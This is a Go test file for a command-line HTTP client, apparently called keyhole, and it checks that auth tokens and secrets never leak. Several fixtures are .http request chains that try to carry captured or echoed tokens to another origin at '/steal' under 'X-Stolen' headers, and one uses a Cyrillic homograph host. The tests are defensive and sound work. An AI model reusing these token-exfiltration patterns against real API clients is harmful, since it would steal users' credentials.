package cli

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/keyhole-sh/keyhole/internal/attack"
	"github.com/keyhole-sh/keyhole/internal/faults"
	"github.com/keyhole-sh/keyhole/internal/proxychild"
)

// capturingProxy is a proxy of a test's own: it answers every request
// itself with {} and keeps what each one carried (method, URL, headers
// and body), so a child process can "reach" made-up hosts and the test
// can tell what would have left the machine.
type capturingProxy struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newCapturingProxy(t *testing.T) *capturingProxy {
	t.Helper()
	p := &capturingProxy{}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		p.mu.Lock()
		p.seen = append(p.seen, fmt.Sprintf("%s %s %v %s", r.Method, r.URL, r.Header, b))
		p.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{}`)
	}))
	t.Cleanup(p.Close)
	return p
}

// leaked fails t for every request the proxy saw that carried secret in
// any of its forms.
func (p *capturingProxy) leaked(t *testing.T, secret string) {
	t.Helper()
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, s := range p.seen {
		for _, form := range attack.LeakForms(secret) {
			if strings.Contains(s, form) {
				t.Errorf("the token left for a public host over plain http: %s", s)
				break
			}
		}
	}
}

// TestRunAuthTokenOutsideAHeaderKeepsTheOriginRule: a $auth.token in a
// request's query or body, not in a header, goes by the same rule as one
// in a header — https, or plain http to loopback only — whether or not
// the request names a provider. It took no such check: the token went in
// clear to any host the URL named.
func TestRunAuthTokenOutsideAHeaderKeepsTheOriginRule(t *testing.T) {
	proxy := newCapturingProxy(t)
	proxychild.Run(t, "TestRunAuthTokenOutsideAHeaderChild", "HTTP_PROXY="+proxy.URL, "HTTPS_PROXY="+proxy.URL)
	proxy.leaked(t, "tok-secret-123")
}

// TestRunAuthTokenOutsideAHeaderChild is the other half of
// TestRunAuthTokenOutsideAHeaderKeepsTheOriginRule; on its own it does
// nothing.
func TestRunAuthTokenOutsideAHeaderChild(t *testing.T) {
	proxychild.Child(t)
	_, h, cfg := apiAtEcho(t, "tok-secret-123")
	file := h.writeHTTP("t.http", `### query
GET http://api.example.test/x?access_token={{$auth.token("api")}}

### body
# @provider api
POST http://api.example.test/y
Content-Type: application/json

{"t": "{{$auth.token("api")}}"}

### body file
# @provider api
POST http://api.example.test/z
Content-Type: application/json

<@ ./body.json
`)
	h.writeConfig("body.json", `{"t": "{{$auth.token("api")}}"}`)
	r := h.run("--config", cfg, "run", file)
	r.expect(t, 1, "three requests refused")
	if n := strings.Count(r.out, "a token goes over plain http only to a loopback host"); n != 3 {
		t.Errorf("the refusal is said %d times, want 3:\n%s", n, r.out)
	}
	assertNoLeak(t, "run's output", r.out+r.errOut, "tok-secret-123")
}

// TestRunTokenOriginIsNeverAServersAnswer: a server that answers with
// the address of the next request (a capture, a response reference)
// does not choose where a $auth.token goes — not as the whole URL, not as
// its host or port; a captured value in the path is fine. The token went
// to whatever https or loopback origin the answer named.
func TestRunTokenOriginIsNeverAServersAnswer(t *testing.T) {
	other := newEchoServer(t)
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"next": %q, "host": %q, "id": "42"}`, other.URL+"/steal", strings.TrimPrefix(other.URL, "http://"))
	}))
	t.Cleanup(api.Close)
	h := newHarness(t)
	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
	file := h.writeHTTP("t.http", `### list
# @provider api
GET /list

# @capture next = body.next
# @capture host = body.host
# @capture id = body.id

### whole URL
GET {{next}}
Authorization: Bearer {{$auth.token("api")}}

### host
GET http://{{host}}/x
Authorization: Bearer {{$auth.token("api")}}

### through a file variable
@to = {{next}}
GET {{to}}?t={{$auth.token("api")}}

### response reference
GET {{list.response.body.$.next}}
Authorization: Bearer {{$auth.token("api")}}

### path
GET `+api.URL+`/items/{{id}}
Authorization: Bearer {{$auth.token("api")}}
`)
	r := h.run("--config", cfg, "run", file)
	r.expect(t, 1, "four requests refused")
	if _, n := other.lastRequest(); n != 0 {
		t.Errorf("the origin the server named got %d requests", n)
	}
	if n := strings.Count(r.out, "the URL's origin comes from a server's answer"); n != 4 {
		t.Errorf("the refusal is said %d times, want 4:\n%s", n, r.out)
	}
	if !strings.Contains(r.out, "PASS  path") {
		t.Errorf("a captured value in the path is refused:\n%s", r.out)
	}
	assertNoLeak(t, "run's output", r.out+r.errOut, "tok-secret-123")
}

// TestDPoPProofQuotedByATokenEndpointIsMasked: a token endpoint that
// refuses the request and quotes its DPoP header — a proof is a
// credential — has it masked in every form, on stderr and in --json, as
// the client secret it quotes beside it. The proof reached the terminal.
func TestDPoPProofQuotedByATokenEndpointIsMasked(t *testing.T) {
	var mu sync.Mutex
	var proofs []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		proof := r.Header.Get("DPoP")
		mu.Lock()
		proofs = append(proofs, proof)
		mu.Unlock()
		_ = r.ParseForm()
		writeJSON(w, http.StatusBadRequest, map[string]any{"error": "invalid_dpop_proof",
			"error_description": "refused DPoP: " + proof + " (" + base64.StdEncoding.EncodeToString([]byte(proof)) + ") for " + r.Form.Get("client_secret")})
	}))
	t.Cleanup(srv.Close)
	h := newHarness(t)
	cfg := h.writeConfig("k.toml", fmt.Sprintf("[settings]\ntoken_cache = \"memory\"\n\n[providers.dp]\nbase_url = %q\ngrant = \"client_credentials\"\ntoken_url = %q\nclient_id = \"cid\"\nclient_secret = \"s3cr3t-value\"\nclient_auth = \"post\"\ndpop = true\n", srv.URL, srv.URL+"/token"))
	for _, args := range [][]string{{"token", "dp"}, {"token", "dp", "--json"}, {"call", "dp", "GET", "/x"}} {
		r := h.run(append([]string{"--config", cfg}, args...)...)
		r.expect(t, ExitToken, strings.Join(args, " "))
		r.errHas(t, "refused DPoP: ••••")
		mu.Lock()
		seen := append([]string(nil), proofs...)
		mu.Unlock()
		if len(seen) == 0 || seen[len(seen)-1] == "" {
			t.Fatalf("%s: no proof was sent", strings.Join(args, " "))
		}
		assertNoLeak(t, strings.Join(args, " "), r.out+r.errOut, append(seen, "s3cr3t-value")...)
	}
}

// runBehindClosedProxy runs the test named child in a child process whose
// proxy refuses every connection: a made-up host name is neither looked
// up nor reached, whatever the child's run dials.
func runBehindClosedProxy(t *testing.T, child string) {
	t.Helper()
	closed := faults.ClosedURL(t)
	proxychild.Run(t, child, "HTTP_PROXY="+closed, "HTTPS_PROXY="+closed)
}

// TestRunOriginLineMasksATokenInTheHost: a .http file that puts the
// $auth.token in the host (https://TOKEN.example.test) has run print the
// origin the token went to with the token masked, in its line, its JSON
// and its JUnit file. The origin was printed as it stood. The proxy the
// child is given refuses every connection: nothing is looked up or
// reached.
func TestRunOriginLineMasksATokenInTheHost(t *testing.T) {
	runBehindClosedProxy(t, "TestRunOriginLineMasksATokenInTheHostChild")
}

// TestRunOriginLineMasksATokenInTheHostChild is the other half of
// TestRunOriginLineMasksATokenInTheHost; on its own it does nothing.
func TestRunOriginLineMasksATokenInTheHostChild(t *testing.T) {
	proxychild.Child(t)
	_, h, cfg := apiAtEcho(t, "tok-secret-123")
	file := h.writeHTTP("t.http", "### dns\nGET https://{{$auth.token(\"api\")}}.example.test/x\nX-Trace: 1\n")
	junit := filepath.Join(h.dir, "report.xml")
	r := h.run("--config", cfg, "run", file, "--junit", junit)
	r.expect(t, ExitNetwork, "the proxy refuses")
	if !strings.Contains(r.out, "token sent to https://••••.example.test") {
		t.Errorf("the origin is not shown masked:\n%s", r.out)
	}
	j := h.run("--config", cfg, "run", file, "--json")
	report, err := os.ReadFile(junit)
	if err != nil {
		t.Fatal(err)
	}
	assertNoLeak(t, "run's output", r.out+r.errOut+j.out+j.errOut+string(report), "tok-secret-123")
}

// TestRunRequestReferenceCarriesNoToken: a .http file cannot take the
// token keyhole added to one request into the next, to another origin,
// through VS Code's request reference
// ({{first.request.headers.Authorization}}): the reference reads the
// credentials of the request masked. It read the header as sent, and the
// token went wherever the second request's URL pointed.
func TestRunRequestReferenceCarriesNoToken(t *testing.T) {
	es := newEchoServer(t)
	other := newEchoServer(t)
	runTheft(t, es.URL, other, "### first\n# @provider api\nGET /x\n\n### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.headers.Authorization}}\n\n{{first.request.headers.Authorization}}\n")
}

// TestRunResponseReferenceCarriesNoEchoedToken: an API that echoes the
// request (many do, in a body or a header) cannot be used by a .http file
// to take the token keyhole sent it into the next request, to another
// origin: a response reference and an @capture read the echoed token
// masked, and a value the server made (its own id) as it came. The echo
// was read back whole and sent on.
func TestRunResponseReferenceCarriesNoEchoedToken(t *testing.T) {
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		writeJSON(w, http.StatusOK, map[string]any{"id": "item-42", "seen": r.Header.Get("Authorization")})
	}))
	t.Cleanup(api.Close)
	other := newEchoServer(t)
	got := runTheft(t, api.URL, other, "### first\n# @provider api\nGET /me\n\n# @capture stolen = body.seen\n\n### second\nPOST "+other.URL+"/steal/{{first.response.body.$.id}}\nX-Stolen: {{first.response.headers.X-Echo}}\nX-Captured: {{stolen}}\n\n{{first.response.body.$.seen}}\n")
	if got.RequestURI != "/steal/item-42" {
		t.Errorf("the server's own value did not read as it came: %s", got.RequestURI)
	}
}

// runTheft runs a .http file whose first request goes to api, of the
// provider "api" (its token tok-secret-123), and whose second tries to
// take that token to other; it fails t if other got the token, in any of
// its forms, and returns what other got.
func runTheft(t *testing.T, api string, other *echoServer, file string) *echoed {
	t.Helper()
	h := newHarness(t)
	cfg := h.writeConfig("k.toml", staticConfig("api", api, "tok-secret-123", ""))
	h.run("--config", cfg, "run", h.writeHTTP("t.http", file)).expect(t, ExitOK, "both sent")
	got, n := other.lastRequest()
	if n != 1 {
		t.Fatalf("the other origin got %d requests, want 1", n)
	}
	for _, form := range attack.LeakForms("tok-secret-123") {
		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
		}
	}
	return got
}

// TestRunRequestBodyReferenceCarriesNoToken: a token a request put in its
// own body ({{$auth.token("api")}}, sent to the provider's origin) cannot
// be read back by the next request's reference ({{first.request.body}})
// and sent to another origin. The reference read the body as sent.
func TestRunRequestBodyReferenceCarriesNoToken(t *testing.T) {
	es := newEchoServer(t)
	other := newEchoServer(t)
	got := runTheft(t, es.URL, other, "### first\nPOST "+es.URL+"/login\nContent-Type: application/json\n\n{\"user\": \"ann\", \"token\": \"{{$auth.token(\"api\")}}\"}\n\n"+
		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.body.$.token}}\n\n{{first.request.body.*}}\n")
	if !strings.Contains(got.Body, `"user": "ann"`) {
		t.Errorf("the rest of the body did not read as sent: %q", got.Body)
	}
}

// TestRunEchoOfAnAuthTokenIsMasked: the token a request put in its own
// header with {{$auth.token("api")}} (keyhole adds none then) is masked
// in the answer's references like the token keyhole adds: a server that
// echoes it cannot have the next request carry it to another origin.
// Only the token keyhole had added was masked.
func TestRunEchoOfAnAuthTokenIsMasked(t *testing.T) {
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		writeJSON(w, http.StatusOK, map[string]any{"seen": r.Header.Get("Authorization")})
	}))
	t.Cleanup(api.Close)
	other := newEchoServer(t)
	runTheft(t, api.URL, other, "### first\nGET "+api.URL+"/me\nAuthorization: Bearer {{$auth.token(\"api\")}}\n\n"+
		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.response.headers.X-Echo}}\n\n{{first.response.body.$.seen}}\n")
}

// TestRunMasksASecretAsItIsEncodedInTheURL: a private env value with a
// space and a '!' goes percent-encoded in the URL's query; the URL run
// prints masks it as sent, not only as written.
func TestRunMasksASecretAsItIsEncodedInTheURL(t *testing.T) {
	es := newEchoServer(t)
	h := newHarness(t)
	cfg := h.writeConfig("k.toml", "[settings]\ntoken_cache = \"memory\"\n")
	file := h.writeHTTP("api/t.http", "GET {{host}}/x?q={{key}}\n\n###\n\nPOST {{host}}/f\nContent-Type: application/x-www-form-urlencoded\n\nq={{key}}\n")
	h.writeConfig("api/http-client.env.json", `{"b": {"host": "`+es.URL+`"}}`)
	h.writeConfig("api/http-client.private.env.json", `{"b": {"key": "open sesame!"}}`)
	r := h.run("--config", cfg, "run", file, "--env", "b", "--json")
	r.expect(t, ExitOK, "a secret with a space")
	got, n := es.lastRequest()
	if n != 2 || got.Body != "q=open%20sesame!" {
		t.Fatalf("%d requests, last %+v", n, got)
	}
	for _, leak := range []string{"open sesame", "open%20sesame", "sesame"} {
		if strings.Contains(r.out+r.errOut, leak) {
			t.Errorf("the secret leaked as %q:\n%s%s", leak, r.out, r.errOut)
		}
	}
}

// TestRunAuthTokenRefusesANonASCIIHost: a $auth.token request to a host
// written with a Cyrillic "а" (https://аpi.example.test) is not sent: the
// origin run prints would pass for the Latin https://api.example.test,
// while the token goes to the xn-- name dialled. It was printed so and
// sent. The proxy the child is given refuses every connection: nothing is
// looked up or reached.
func TestRunAuthTokenRefusesANonASCIIHost(t *testing.T) {
	runBehindClosedProxy(t, "TestRunAuthTokenRefusesANonASCIIHostChild")
}

// TestRunAuthTokenRefusesANonASCIIHostChild is the other half of
// TestRunAuthTokenRefusesANonASCIIHost; on its own it does nothing.
func TestRunAuthTokenRefusesANonASCIIHostChild(t *testing.T) {
	proxychild.Child(t)
	_, h, cfg := apiAtEcho(t, "tok-secret-123")
	for _, host := range []string{"\u0430pi.example.test", "api.ex%D0%B0mple.test"} {
		file := h.writeHTTP("t.http", "GET https://"+host+"/x\nAuthorization: Bearer {{$auth.token(\"api\")}}\n")
		r := h.run("--config", cfg, "run", file)
		r.expect(t, ExitUsage, "a host not in ASCII")
		if strings.Contains(r.out, "token sent to") || !strings.Contains(r.out+r.errOut, "a token goes only to a host written in ASCII") {
			t.Errorf("%s: not refused as it should be:\n%s%s", host, r.out, r.errOut)
		}
	}
}
